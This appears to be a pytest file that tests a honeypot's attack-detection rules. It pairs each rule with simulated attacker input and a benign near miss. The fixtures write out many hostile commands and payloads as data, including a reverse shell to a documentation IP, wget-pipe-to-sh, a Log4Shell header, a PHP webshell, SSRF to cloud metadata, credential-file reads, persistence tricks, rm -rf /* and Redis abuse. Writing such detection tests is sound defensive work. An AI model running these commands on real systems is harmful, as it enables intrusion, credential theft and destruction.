"""Every shipped rule finds what an attacker does to a real decoy, and leaves its near miss alone."""

from collections.abc import Callable, Sequence
from functools import partial

import pytest

from decnet_actors.analysis.techniques import loader
from decnet_actors.analysis.techniques.attack import attack
from decnet_actors.analysis.techniques.study import tagged
from decnet_actors.analysis.techniques.windows import Windows
from decnet_actors.contracts.techniques import Tag
from decnet_actors.domain.records import Entry
from tests.decnet_actors.analysis.techniques.drives import ftp, get, logins, redis, shell, ssh, wanted, web

Drive = Callable[[], Sequence[Entry]]
RULES = loader.load()
FEW = [(f"user{number}", f"word{number}") for number in range(4)]


def asked(target: str, *headers: str, **options) -> Drive:
    return partial(web, get(target, *headers, **options))


def tried(*pairs: tuple[str, str], every: float = 1.0) -> Drive:
    return partial(logins, *pairs, every=every)


def typed(line: str) -> Drive:
    return partial(shell, line)


def sent(*commands: str) -> Drive:
    return partial(redis, *commands)


def brought(name: str, *before: str) -> Drive:
    return partial(ftp, *before, "TYPE I", "PASV", f"STOR {name}", file=b"data\n")


PAIRS: dict[str, tuple[Drive, Drive]] = {  # what is found, and what comes near it
    "CRED-1": (tried(*FEW, ("e", "e1")), tried(*FEW, ("e", "e1"), every=100)),
    "CRED-2": (tried(*(("root", f"w{n}") for n in range(5))), tried(*(("root", "same") for _ in range(9)))),
    "CRED-3": (tried(*((f"u{n}", "Winter26") for n in range(3))), tried(*(("u1", "Winter26") for _ in range(5)))),
    "CRED-4": (
        tried(*((f"u{n}@mail.example", f"w{n}") for n in range(3))),
        tried(*((f"u{n}", f"w{n}") for n in range(3))),
    ),
    "CRED-5": (partial(ftp), tried(("ops", "s3cret2"))),
    "CRED-6": (tried(("admin", "admin")), tried(("admin", "Admin2026!"))),
    "WEB-1": (asked("/", "User-Agent: Mozilla/5.0 zgrab/0.x"), asked("/", "User-Agent: Mozilla/5.0 (X11; Linux)")),
    "WEB-2": (
        asked("/", "X-Api-Version: ${${lower:j}ndi:ldap://198.51.100.1/a}"),
        asked("/?price=$%7Bamount%7D", "X-Api-Version: $1"),
    ),
    "WEB-3": (asked("/static/%2e%2e%252f%2e%2e/etc/hostname"), asked("/static/..hidden/a...b")),
    "WEB-4": (asked("/app/.env"), asked("/environment")),
    "WEB-5": (
        asked("/x.php", method="PUT", body=b"<?php system($_GET[0]);"),
        asked("/x", method="PUT", body=b"a note on php?"),
    ),
    "WEB-6": (asked("/cgi-bin/ping?host=1;wget+http://198.51.100.1/a"), asked("/search?q=wget;page=2")),
    "WEB-7": (asked("/item?id=1%20UNION%20ALL%20SELECT%201,2"), asked("/search?q=union+square+selection")),
    "WEB-8": (
        asked("/index.php?s=/index/think/app/invokefunction&function=phpinfo"),
        asked("/docs/invoke-function.html"),
    ),
    "WEB-9": (asked("/v1.24/containers/create", method="POST", body=b"{}"), asked("/containers/create")),
    "WEB-10": (asked("http://198.51.100.1/"), asked("/?u=http://198.51.100.1/")),
    "WEB-11": (
        partial(web, *(get(f"/missing{n}") for n in range(20))),
        partial(web, *(get("/missing") for _ in range(25))),
    ),
    "WEB-12": (asked("/fetch?url=http://169.254.169.254/latest/meta-data/"), asked("/fetch?url=http://169.254.1.1/")),
    "SH-1": (typed('cd /tmp; w""get -qO- http://198.51.100.1/a | sh'), typed("wget -qO- http://198.51.100.1/a | wc")),
    "SH-2": (typed("bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"), typed("nc -zv 198.51.100.1 22")),
    "SH-3": (typed("python3 -c 'print(1)'"), typed("python3 --version")),
    "SH-4": (typed("{cat,/etc/passwd}"), typed("echo /etc/passwd")),
    "SH-5": (typed("cat $(echo /etc)/sh?dow"), typed("ls -l /etc/shadow")),
    "SH-6": (typed("find / -perm -4000 2>/dev/null"), typed("find / -perm 644")),
    "SH-7": (typed("f''ind / -name '*.conf'"), typed("ls -l /etc")),
    "SH-8": (typed("nmap -sS 10.0.0.0/24"), typed("which nmap")),
    "SH-9": (typed("un$@ame -a"), typed("echo uname")),
    "SH-10": (typed("echo d2hvYW1p | base64 -d | sh"), typed("echo whoami")),
    "SH-11": (typed("ip addr show"), typed("ip -V")),
    "SH-12": (typed("netstat -antp"), typed("lsof /tmp")),
    "SH-13": (typed("ps aux"), typed("echo ps")),
    "SH-14": (typed("sudo useradd -o -u 0 hax"), typed("id useradd")),
    "SH-15": (typed("echo '* * * * * /tmp/a' >> /var/spool/cron/crontabs/root"), typed("crontab -l")),
    "SH-16": (typed("mkdir -p ~/.ssh; echo ssh-rsa AAAA >> ~/.ssh/authorized_keys"), typed("cat .ssh/authorized_keys")),
    "SH-17": (typed("unset HISTFILE"), typed("history")),
    "SH-18": (typed("rm -rf /var/log/wtmp"), typed("cat /var/log/wtmp")),
    "SH-19": (typed("sudo sh"), typed("sudo --version")),
    "SH-20": (typed("rm -rf /*"), typed("rm -rf /tmp/*")),
    "SH-21": (typed("cat /root/.aws/credentials"), typed("ls /root/.aws")),
    "SH-22": (typed("cat ~/.ssh/id_rsa"), typed("cat ~/.ssh/id_rsa.pub")),
    "SH-23": (typed("cat /var/run/secrets/kubernetes.io/serviceaccount/token"), typed("ls /var/run")),
    "SH-24": (typed("curl --unix-socket /var/run/docker.sock http://x/info"), typed("docker ps")),
    "SH-25": (typed("iptables -F"), typed("iptables -L")),
    "SH-26": (typed("ch\\mod 777 /tmp/a"), typed("chmod 640 /tmp/a")),
    "SH-27": (typed("./x -o stratum+tcp://pool.example:3333 -u w"), typed("ls stratum")),
    "SH-28": (typed("systemctl enable a.service"), typed("systemctl status ssh")),
    "SH-29": (typed("echo /tmp/a >> ~/.bashrc"), typed("cat ~/.bashrc")),
    "SH-30": (typed("echo /tmp/a > /etc/rc.local"), typed("cat /etc/rc.local")),
    "SH-31": (typed("base64 -d /tmp/a"), typed("base64 /tmp/a")),
    "SH-32": (typed("insmod /tmp/rk.ko"), typed("lsmod")),
    "SH-33": (typed("cat /etc/hosts"), typed("cat /etc/hostname")),
    "SH-34": (typed("echo root:x | chpasswd"), typed("passwd -S root")),
    "SH-35": (typed("pkill -9 xmr"), typed("pgrep xmr")),
    "SH-36": (typed("ssh root@10.0.0.9"), typed("ssh -V")),
    "SH-37": (typed("curl -T /etc/hostname http://198.51.100.1/"), typed("curl -o /tmp/x http://198.51.100.1/")),
    "SH-38": (typed("echo /tmp/a.so > /etc/ld.so.preload"), typed("cat /etc/ld.so.preload")),
    "RED-1": (sent("CONFIG SET dir /root/.ssh/"), sent("CONFIG GET dir")),
    "RED-2": (sent("CONFIG SET dir /var/spool/cron/"), sent("CONFIG SET dir /var/lib/redis")),
    "RED-3": (sent("SLAVEOF 198.51.100.1 6379"), sent("SLAVEOF NO ONE")),
    "RED-4": (sent("CONFIG SET dbfilename x.php"), sent("CONFIG SET dbfilename dump.rdb")),
    "RED-5": (sent("FLUSHALL"), sent("DBSIZE")),
    "NET-1": (partial(wanted, b"startup-config"), partial(wanted, b"a.txt")),
    "FILE-1": (typed("wget http://198.51.100.1/a"), sent("MODULE LOAD /tmp/x.so")),
    "FILE-2": (brought("dropper.sh"), typed("echo x > /tmp/a")),
    "FILE-3": (brought(".ssh/authorized_keys", "MKD .ssh"), brought("authorized_keys.txt")),
    "FILE-4": (brought("shell.php"), brought("shell.txt")),
    "FWD-1": (partial(ssh, forward=True), partial(ssh, x11=True)),
    "SSH-1": (partial(ssh, "ZGrab_2.0"), partial(ssh)),
}
every_rule = pytest.mark.parametrize("rule", PAIRS)


def tags(entries: Sequence[Entry]) -> list[Tag]:
    windows = Windows()
    return [tag for entry in entries for tag in tagged(entry, RULES, {}, windows)]


def test_every_shipped_rule_has_such_a_pair():
    assert set(RULES.rules) == set(PAIRS)


@every_rule
def test_a_rule_finds_what_is_done_to_a_decoy(rule):
    found = [tag for tag in tags(PAIRS[rule][0]()) if tag.rule == rule]

    assert {emit.technique for emit in RULES.rules[rule].emits} == {tag.technique for tag in found}
    assert all(tag.evidence for tag in found)


@every_rule
def test_a_rule_leaves_its_near_miss_alone(rule):
    entries = PAIRS[rule][1]()

    assert {entry.record.kind for entry in entries} & set(RULES.rules[rule].on), "the near miss is no event it is on"
    assert rule not in {tag.rule for tag in tags(entries)}


def test_every_known_technique_is_found_by_a_rule_or_has_a_part_that_is():
    named = {emit.technique for rule in RULES.rules.values() for emit in rule.emits}

    assert set(attack().techniques) == named | {technique.partition(".")[0] for technique in named}
    assert all(set(one.tactics) <= set(attack().tactics) for one in attack().techniques.values())


def test_no_secret_is_evidence():
    found = tags(logins(*(("root", f"hunter{n}") for n in range(9))))

    assert {"CRED-1", "CRED-2"} == {tag.rule for tag in found}
    assert not [tag for tag in found if "hunter" in str(tag.evidence)]
